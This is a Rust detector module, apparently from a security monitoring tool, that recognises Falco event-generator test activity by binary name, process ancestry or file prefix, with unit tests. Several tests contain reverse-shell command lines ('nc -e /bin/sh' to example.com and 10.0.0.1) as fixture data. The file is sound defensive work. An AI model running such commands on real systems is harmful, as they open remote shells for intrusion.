//! Synthetic test activity: falcosecurity/event-generator runs real attack commands to test
//! rules. Recognised by its binary (/bin/event-generator), its comm as an ancestor, or its
//! files (falco-event-generator-syscall-*). Recognising it sets `test_activity` and puts the
//! "allow-list it" advice first (exec-ground-truth.md §2, §6); the risk stays that of the exec,
//! since an attacker can choose the same names.

use super::{basename_is, Ctx, Findings};
use crate::knowledge::signals;

const NAME: &str = "event-generator";
/// How event-generator names the files its actions write and run.
const FILE_PREFIX: &str = "falco-event-generator-syscall-";

/// A path (or an `sh -c` script that is one) to one of the generator's files. The text
/// anywhere else, such as in a comment after an attack, marks nothing.
fn is_generator_file(path: &str) -> bool {
    // The name test first: it reads one short suffix, where the whitespace test would read
    // every character of every argument.
    let path = path.trim();
    crate::text::basename(path).starts_with(FILE_PREFIX) && !path.contains(char::is_whitespace)
}

/// Always: it reads the exe, comm, argv and ancestors, all of which vary.
pub use super::always as wants;

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let why = if basename_is(cx.exe_path, NAME) || cx.facts.comm.as_deref() == Some(NAME) {
        Some("the exec is event-generator itself")
    } else if cx
        .lineage
        .ancestors
        .iter()
        .any(|a| a.comm == NAME || a.exe.as_deref().is_some_and(|e| basename_is(e, NAME)))
    {
        Some("an ancestor is event-generator")
    } else if is_generator_file(cx.exe_path) || cx.facts.argv.iter().any(|a| is_generator_file(a)) {
        Some("it runs a falco-event-generator-syscall-* file")
    } else {
        None
    };
    if let Some(why) = why {
        out.test_activity = true;
        out.hit(
            signals::TEST_ACTIVITY,
            format!("falcosecurity/event-generator test action: {why}"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    #[test]
    fn fires_on_event_generator_parent() {
        let (ids, _) = run_with(
            detect,
            &facts(&["nc", "-e", "/bin/sh", "example.com", "22"]),
            &Lineage::from_comms(["event-generator"]),
        );
        assert_eq!(ids, ["test_activity"]);
        assert_eq!(
            run(
                detect,
                &[
                    "sh",
                    "-c",
                    "/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm.sh"
                ]
            ),
            ["test_activity"]
        );
    }

    #[test]
    fn the_file_prefix_marks_only_a_file_name() {
        // Appended to an attack as a comment, the text is not the generator's file.
        let attack = [
            "sh",
            "-c",
            "nc -e /bin/sh 10.0.0.1 4444 # falco-event-generator",
        ];
        assert!(run(detect, &attack).is_empty());
        let named = [
            "sh",
            "-c",
            "nc -e /bin/sh 10.0.0.1 4444 # /tmp/falco-event-generator-syscall-x",
        ];
        assert!(run(detect, &named).is_empty());
        assert_eq!(
            run(
                detect,
                &["/tmp/falco-event-generator-syscall-DropAndExecuteNewBinary"]
            ),
            ["test_activity"]
        );
    }

    /// Evidence of the hit, and the test-activity mark.
    fn found(f: &crate::facts::ExecFacts, lineage: &Lineage) -> (Vec<String>, bool) {
        let cmd = crate::analysis::shell::parse_exec(&f.argv);
        let mut out = Findings::default();
        detect(&Ctx::new(f, lineage, &cmd), &mut out);
        let evidence = out.hits.into_iter().map(|h| h.evidence).collect();
        (evidence, out.test_activity)
    }

    const ITSELF: &str =
        "falcosecurity/event-generator test action: the exec is event-generator itself";

    #[test]
    fn recognises_the_generator_itself() {
        let none = Lineage::default();
        let f = facts(&["/bin/event-generator", "run", "syscall", "--loop"]);
        assert_eq!(found(&f, &none), (vec![ITSELF.to_string()], true));
        // argv[0] is the caller's choice; the comm still names the binary.
        let mut f = facts(&["generator", "run"]);
        f.comm = Some("event-generator".into());
        assert_eq!(found(&f, &none), (vec![ITSELF.to_string()], true));
        // A name that merely ends like it is another program.
        let f = facts(&["/usr/local/bin/xevent-generator"]);
        assert_eq!(found(&f, &none), (vec![], false));
    }

    #[test]
    fn recognises_an_ancestor_by_its_exe() {
        // Re-executed through /proc/self/exe, its comm is `exe`; its exe path still names it.
        let mut lineage = Lineage::from_comms(["sh", "exe"]);
        lineage.ancestors[1].exe = Some("/bin/event-generator".into());
        let f = facts(&["nc", "-e", "/bin/sh", "example.com", "22"]);
        let (evidence, test) = found(&f, &lineage);
        assert_eq!(
            evidence,
            ["falcosecurity/event-generator test action: an ancestor is event-generator"]
        );
        assert!(test);
    }

    #[test]
    fn quiet_on_look_alike_names() {
        // Installing the chart names it but runs nothing of it.
        assert!(run(
            detect,
            &[
                "helm",
                "install",
                "event-generator",
                "falcosecurity/event-generator"
            ]
        )
        .is_empty());
        // Kubernetes' event exporter is another program.
        assert!(run(
            detect,
            &["/usr/local/bin/event-exporter", "-conf", "/etc/x.yaml"]
        )
        .is_empty());
        let (ids, _) = run_with(
            detect,
            &facts(&["id"]),
            &Lineage::from_comms(["sh", "event-exporter"]),
        );
        assert!(ids.is_empty());
    }

    #[test]
    fn quiet_on_other_parents() {
        let (ids, _) = run_with(
            detect,
            &facts(&["nc", "-e", "/bin/sh", "example.com", "22"]),
            &Lineage::from_comms(["bash", "sshd"]),
        );
        assert!(ids.is_empty());
    }
}
